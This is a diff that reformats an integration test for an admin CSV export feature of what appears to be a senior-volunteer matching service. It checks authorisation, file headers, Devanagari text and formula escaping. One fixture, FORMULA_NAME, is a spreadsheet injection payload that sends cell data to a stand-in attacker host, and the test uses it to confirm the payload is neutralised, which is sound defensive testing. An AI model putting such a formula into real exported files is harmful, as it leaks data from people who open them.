@@ -24,7 +24,9 @@ const HINDI_NAME = 'कमला देवी शर्मा';
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 
 async function download(kind: ExportKind | string, key = adminKey, headers: Record<string, string> = {}) {
-  const response = await fetchFrom(`${apiUrl}/${encodeURIComponent(key)}/export/${kind}`, { headers: { ...newClientAddress(), ...headers } });
+  const response = await fetchFrom(`${apiUrl}/${encodeURIComponent(key)}/export/${kind}`, {
+    headers: { ...newClientAddress(), ...headers },
+  });
   const bytes = new Uint8Array(await response.arrayBuffer());
   return { status: response.status, headers: response.headers, bytes, text: Buffer.from(bytes).toString('utf8') };
 }
@@ -36,7 +38,9 @@ async function exported(kind: ExportKind, key = adminKey, headers: Record<string
 }
 
 const COLLECTION_OF: Record<ExportKind, string> = {
-  volunteers: COLLECTIONS.volunteers, seniors: COLLECTIONS.seniors, applications: COLLECTIONS.applications,
+  volunteers: COLLECTIONS.volunteers,
+  seniors: COLLECTIONS.seniors,
+  applications: COLLECTIONS.applications,
 };
 const storedEmails = async (kind: ExportKind) => (await db().collection(COLLECTION_OF[kind]).get()).docs.map((doc) => doc.id).sort();
 
@@ -53,14 +57,32 @@ beforeAll(async () => {
   const now = Date.UTC(2026, 2, 14, 10, 15);
   senior = newSenior(seniorRegistrationSchema.parse({ ...seniorForm(hindiSenior), name: HINDI_NAME, city: 'पुणे' }), now);
   volunteer = {
-    ...newVolunteer(volunteerRegistrationSchema.parse({ ...volunteerForm(formulaVolunteer), name: 'Formula Person' }), await addApplication(formulaVolunteer), now),
+    ...newVolunteer(
+      volunteerRegistrationSchema.parse({ ...volunteerForm(formulaVolunteer), name: 'Formula Person' }),
+      await addApplication(formulaVolunteer),
+      now,
+    ),
     name: FORMULA_NAME,
     hobbies: '+91 phone-like hobby',
-    senior: { email: hindiSenior, name: HINDI_NAME, status: LINK_STATUS.assigned, reqTime: now, task: 'Reading, "aloud"\nthen tea', date: '2026-03-20', startTime: '10:00', endTime: '11:30', city: 'Pune', assTime: now + 60_000 },
+    senior: {
+      email: hindiSenior,
+      name: HINDI_NAME,
+      status: LINK_STATUS.assigned,
+      reqTime: now,
+      task: 'Reading, "aloud"\nthen tea',
+      date: '2026-03-20',
+      startTime: '10:00',
+      endTime: '11:30',
+      city: 'Pune',
+      assTime: now + 60_000,
+    },
   };
   application = {
     ...(await addApplication(hindiApplicant, APPLICATION_STATUS.rejected)),
-    fullName: 'मीरा अय्यर', motivation: '@mention, "quoted"\nand a second line', decidedAt: now, submittedAt: now - 3_600_000,
+    fullName: 'मीरा अय्यर',
+    motivation: '@mention, "quoted"\nand a second line',
+    decidedAt: now,
+    submittedAt: now - 3_600_000,
   };
   await Promise.all([
     personDoc('senior', hindiSenior).set(senior),
@@ -68,7 +90,8 @@ beforeAll(async () => {
     db().collection(COLLECTIONS.applications).doc(hindiApplicant).set(application),
   ]);
   const batch = db().batch();
-  for (const email of pagedSeniors) batch.set(personDoc('senior', email), newSenior(seniorRegistrationSchema.parse(seniorForm(email)), now));
+  for (const email of pagedSeniors)
+    batch.set(personDoc('senior', email), newSenior(seniorRegistrationSchema.parse(seniorForm(email)), now));
   await batch.commit();
 });
 
@@ -87,7 +110,10 @@ describe('who may export', () => {
     const file = `${kind}.csv`;
     for (const path of [`/export/${file}`, `//export/${file}`]) {
       const response = await fetchFrom(`${apiUrl}${path}`, { headers: newClientAddress() });
-      expect({ status: response.status, json: await response.json() }).toEqual({ status: 401, json: { message: SERVER_MESSAGES.invalidAdminKey, code: 'invalidAdminKey' } });
+      expect({ status: response.status, json: await response.json() }).toEqual({
+        status: 401,
+        json: { message: SERVER_MESSAGES.invalidAdminKey, code: 'invalidAdminKey' },
+      });
     }
     expect(await download(file, 'wrong-key')).toMatchObject(refused);
     expect(await download(file, `${adminKey}x`)).toMatchObject(refused);
@@ -110,7 +136,9 @@ describe('the files', () => {
   it.each(EXPORT_KINDS)('%s: a UTF-8 CSV with a byte order mark, sent as an attachment, not cached', async (kind) => {
     const { headers, bytes, csv } = await exported(kind);
     expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="golden-hearts-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
+    expect(headers.get('content-disposition')).toMatch(
+      new RegExp(`^attachment; filename="golden-hearts-${kind}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+    );
     expect(headers.get('cache-control')).toBe('no-store');
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv.bom).toBe(true);
@@ -128,12 +156,32 @@ describe('the files', () => {
   it('seniors: every field of a Devanagari-named senior, intact', async () => {
     const { csv } = await exported('seniors');
     expect(csv.rows.find((row) => row.Email === hindiSenior)).toEqual({
-      Email: hindiSenior, Name: HINDI_NAME, Phone: "'+91 20 2612 3456", 'Date of birth': '1942-09-30',
-      Address: '4 Shanti Niwas, Model Colony', City: 'पुणे', State: 'Maharashtra', 'PIN code': '411004',
-      'Emergency contact': 'Anil Rao', 'Emergency contact phone': "'+91 98220 33333", 'Emergency contact relation': 'Son',
-      'Emergency contact e-mail': '', Interests: 'Reading, Music', Services: 'Companionship', 'Special needs': 'Uses a walking stick.',
-      'Trial ends': '2026-04-13 15:45', 'Link status': '', 'Linked with': '', 'Linked email': '', Requested: '', Task: '',
-      'Visit date': '', 'Start time': '', 'End time': '', Assigned: '', Registered: '2026-03-14 15:45',
+      Email: hindiSenior,
+      Name: HINDI_NAME,
+      Phone: "'+91 20 2612 3456",
+      'Date of birth': '1942-09-30',
+      Address: '4 Shanti Niwas, Model Colony',
+      City: 'पुणे',
+      State: 'Maharashtra',
+      'PIN code': '411004',
+      'Emergency contact': 'Anil Rao',
+      'Emergency contact phone': "'+91 98220 33333",
+      'Emergency contact relation': 'Son',
+      'Emergency contact e-mail': '',
+      Interests: 'Reading, Music',
+      Services: 'Companionship',
+      'Special needs': 'Uses a walking stick.',
+      'Trial ends': '2026-04-13 15:45',
+      'Link status': '',
+      'Linked with': '',
+      'Linked email': '',
+      Requested: '',
+      Task: '',
+      'Visit date': '',
+      'Start time': '',
+      'End time': '',
+      Assigned: '',
+      Registered: '2026-03-14 15:45',
     });
   });
 
@@ -141,14 +189,34 @@ describe('the files', () => {
     const { csv, text } = await exported('volunteers');
     const row = csv.rows.find((one) => one.Email === formulaVolunteer);
     expect(row).toEqual({
-      Email: formulaVolunteer, Name: `'${FORMULA_NAME}`, Phone: "'+91 98220 11111", 'Date of birth': '1996-04-12',
-      Address: '12 Lane 5, Koregaon Park', City: 'Pune', State: 'Maharashtra', 'PIN code': '411001',
-      'Emergency contact': 'Anil Rao', 'Emergency contact phone': "'+91 98220 33333", 'Emergency contact relation': 'Son',
-      Skills: 'Reading, Music', Availability: 'Morning (9AM-12PM)', Languages: 'English, Marathi',
-      Experience: 'Two years at a care home.', Hobbies: "'+91 phone-like hobby", Certification: '', CV: 'cv.pdf',
-      'Link status': 'Assigned', 'Linked with': HINDI_NAME, 'Linked email': hindiSenior, Requested: '2026-03-14 15:45',
-      Task: 'Reading, "aloud"\nthen tea', 'Visit date': '2026-03-20', 'Start time': '10:00', 'End time': '11:30',
-      Assigned: '2026-03-14 15:46', Registered: '2026-03-14 15:45',
+      Email: formulaVolunteer,
+      Name: `'${FORMULA_NAME}`,
+      Phone: "'+91 98220 11111",
+      'Date of birth': '1996-04-12',
+      Address: '12 Lane 5, Koregaon Park',
+      City: 'Pune',
+      State: 'Maharashtra',
+      'PIN code': '411001',
+      'Emergency contact': 'Anil Rao',
+      'Emergency contact phone': "'+91 98220 33333",
+      'Emergency contact relation': 'Son',
+      Skills: 'Reading, Music',
+      Availability: 'Morning (9AM-12PM)',
+      Languages: 'English, Marathi',
+      Experience: 'Two years at a care home.',
+      Hobbies: "'+91 phone-like hobby",
+      Certification: '',
+      CV: 'cv.pdf',
+      'Link status': 'Assigned',
+      'Linked with': HINDI_NAME,
+      'Linked email': hindiSenior,
+      Requested: '2026-03-14 15:45',
+      Task: 'Reading, "aloud"\nthen tea',
+      'Visit date': '2026-03-20',
+      'Start time': '10:00',
+      'End time': '11:30',
+      Assigned: '2026-03-14 15:46',
+      Registered: '2026-03-14 15:45',
     });
     // No cell of the file starts a formula.
     for (const value of csv.rows.flatMap((one) => Object.values(one))) expect(value).not.toMatch(/^[=+\-@\t\r]/);
@@ -158,11 +226,20 @@ describe('the files', () => {
   it('applications: the answers, status and times of an application', async () => {
     const { csv } = await exported('applications');
     expect(csv.rows.find((row) => row.Email === hindiApplicant)).toEqual({
-      Email: hindiApplicant, 'Full name': 'मीरा अय्यर', Contact: "'+91 98220 11111", Status: 'Rejected',
-      Submitted: '2026-03-14 14:45', Decided: '2026-03-14 15:45', Languages: 'English, Marathi', Availability: 'Mornings',
-      'Why they would like to volunteer': "'@mention, \"quoted\"\nand a second line",
-      'What companionship means to them': 'c', 'What excites them about this work': 'e',
-      'How they would help a lonely senior': 'h', 'Previous experience': '', Resume: 'cv.pdf',
+      Email: hindiApplicant,
+      'Full name': 'मीरा अय्यर',
+      Contact: "'+91 98220 11111",
+      Status: 'Rejected',
+      Submitted: '2026-03-14 14:45',
+      Decided: '2026-03-14 15:45',
+      Languages: 'English, Marathi',
+      Availability: 'Mornings',
+      'Why they would like to volunteer': '\'@mention, "quoted"\nand a second line',
+      'What companionship means to them': 'c',
+      'What excites them about this work': 'e',
+      'How they would help a lonely senior': 'h',
+      'Previous experience': '',
+      Resume: 'cv.pdf',
     });
   });
 
